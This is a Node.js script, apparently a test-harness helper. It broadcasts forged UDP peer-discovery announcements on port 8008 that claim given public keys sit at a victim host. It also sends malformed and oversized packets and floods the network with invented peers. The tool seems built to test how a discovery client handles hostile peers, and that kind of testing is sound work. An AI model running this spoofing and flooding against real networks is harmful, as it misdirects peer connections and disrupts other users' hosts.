// Says things in the local network that are not so, until it is killed.
//   node spoof.js --target <broadcast address> --from <own address> [--from ...] --victim <host> --key <base64> [--key ...]
//     [--own <base64>] [--flood <packets a second>]
// From each of its addresses: that each --key is on the victim's host, that it is here, that --own is here, noise, and as many
// strangers as the flood brings, who are here too. Prints {"ready":true} when it speaks.
'use strict'
const crypto = require('crypto')
const dgram = require('dgram')
const common = require('./common')

const a = common.args(process.argv.slice(2), { flood: 0 })
const list = (value) => value === undefined ? [] : [].concat(value)
const froms = list(a.from)
const keys = list(a.key)

const sockets = froms.map((address) => new Promise((resolve) => {
  const socket = dgram.createSocket({ type: 'udp4', reuseAddr: true })
  socket.on('error', (error) => console.error(error.message))
  socket.bind(8008, address, () => {
    socket.setBroadcast(true)
    resolve({ socket, address })
  })
}))

Promise.all(sockets).then((sockets) => {
  const net = (host, key) => `net:${host}:8008~shs:${key}`
  const say = ({ socket }, packet, port) => socket.send(packet, port, a.target, () => {})
  const lie = () => {
    for (const one of sockets) {
      for (const key of keys) {
        say(one, net(a.victim, key), 8008)
        say(one, net(one.address, key), 8008)
      }
      for (const key of list(a.own)) say(one, net(one.address, key), 8008)
      for (const port of [8008, 26830]) {
        say(one, crypto.randomBytes(300), port)
        say(one, Buffer.alloc(0), port)
        say(one, Buffer.alloc(9000, 'net:'), port)
      }
    }
  }
  setInterval(lie, 1000)
  lie()
  const stranger = () => crypto.randomBytes(32).toString('base64')
  setInterval(() => {
    for (let n = 0; n < a.flood / 50 / sockets.length; n++) {
      for (const one of sockets) say(one, net(n % 2 ? a.victim : one.address, stranger()), 8008)
    }
  }, 20)
  common.print({ ready: true })
})
process.on('SIGTERM', () => process.exit(0))
